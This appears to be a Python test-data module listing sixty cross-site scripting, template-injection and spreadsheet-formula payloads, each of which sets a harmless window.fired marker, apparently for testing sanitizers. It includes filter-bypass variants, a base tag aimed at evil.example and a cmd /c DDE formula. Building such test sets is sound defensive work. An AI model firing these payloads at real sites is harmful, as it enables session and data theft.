# SPDX-License-Identifier: EUPL-1.2
"""Sixty texts that would run if a page took them for code; each marks the window when it does."""

FIRE = "window.fired=1"
FIRE_BARE = "window.fired`1`"

TAGS = (
    f"<script>{FIRE}</script>",
    f"<SCRIPT>{FIRE}</SCRIPT >",
    f"<script src='data:text/javascript,{FIRE}'></script>",
    f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
    f"</title><script>{FIRE}</script>",
    f"</textarea><script>{FIRE}</script>",
    f"</style></script><script>{FIRE}</script>",
    f"--><script>{FIRE}</script><!--",
    f"]]><script>{FIRE}</script>",
    f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
    f"<object data='data:text/html,<script>parent.{FIRE}</script>'></object>",
    f"<base href='//evil.example/'><script>{FIRE}</script>",
)
HANDLERS = (
    f"<img src=x onerror={FIRE}>",
    f"<img/src=x/onerror={FIRE}>",
    f"<body onload={FIRE}>",
    f"<input autofocus onfocus={FIRE}>",
    f"<details open ontoggle={FIRE}>",
    f"<video><source onerror={FIRE}></video>",
    f"<audio src=x onerror={FIRE}>",
    f"<marquee onstart={FIRE}>",
    f"<div style='animation:x 1s' onanimationstart={FIRE}>",
    f"<a id=x tabindex=1 onfocus={FIRE} autofocus>",
)
ATTRIBUTES = (
    f'" autofocus onfocus="{FIRE}',
    f"' autofocus onfocus='{FIRE}",
    f'"><img src=x onerror="{FIRE}">',
    f"'><img src=x onerror='{FIRE}'>",
    f'" onmouseover={FIRE} style="position:fixed;inset:0',
    f"` onfocus={FIRE} autofocus",
    f'" hx-on:load="{FIRE}" x="',
    f'<p hx-get="/" hx-trigger="load" hx-vals="js:{{a:{FIRE}}}">',
)
SVG = (
    f"<svg onload={FIRE}>",
    f"<svg/onload={FIRE}//",
    f"<svg><script>{FIRE}</script></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s>",
    f"<svg><a href='javascript:{FIRE}'><rect width=9 height=9 /></a></svg>",
    f"<math><mtext><img src=x onerror={FIRE}></mtext></math>",
)
ADDRESSES = (
    f"javascript:{FIRE}",
    f"JaVaScRiPt:{FIRE}",
    f"java\tscript:{FIRE}",
    f" javascript:{FIRE}//https://",
    f"data:text/html,<script>parent.{FIRE}</script>",
    f"vbscript:{FIRE}",
)
TEMPLATES = (
    "{{ [].constructor.constructor('" + FIRE + "')() }}",
    "${" + FIRE + "}",
    "{% set x = 1 %}{{ config }}",
    "#{" + FIRE + "}",
    "<%= " + FIRE + " %>",
    "`-" + FIRE_BARE + "-`",
)
ENCODED = (
    f"&lt;script&gt;{FIRE}&lt;/script&gt;",
    f"&#60;img src=x onerror={FIRE}&#62;",
    f"\\u003cscript\\u003e{FIRE}\\u003c/script\\u003e",
    f"%3Cscript%3E{FIRE}%3C/script%3E",
    f"＜script＞{FIRE}＜/script＞",
    f"\u202e<script>{FIRE}</script>",
)
MARKDOWN = (
    f"[tästä](javascript:{FIRE})",
    f'![x](x"onerror="{FIRE})',
    f"<javascript:{FIRE}>",
)
FORMULAS = (
    f'=HYPERLINK("javascript:{FIRE}")',
    f"+cmd|'/c {FIRE}'!A1",
    f"@SUM({FIRE})",
)
PAYLOADS = (*TAGS, *HANDLERS, *ATTRIBUTES, *SVG, *ADDRESSES, *TEMPLATES, *ENCODED, *MARKDOWN, *FORMULAS)
